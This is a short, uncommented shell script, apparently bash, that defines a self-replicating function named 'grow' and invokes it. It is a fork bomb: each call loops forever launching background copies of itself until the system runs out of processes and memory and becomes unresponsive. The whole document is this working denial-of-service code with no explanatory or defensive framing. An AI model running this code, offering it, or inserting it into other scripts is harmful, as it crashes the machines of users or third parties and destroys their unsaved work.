grow() {
    while :; do grow & done
}
grow
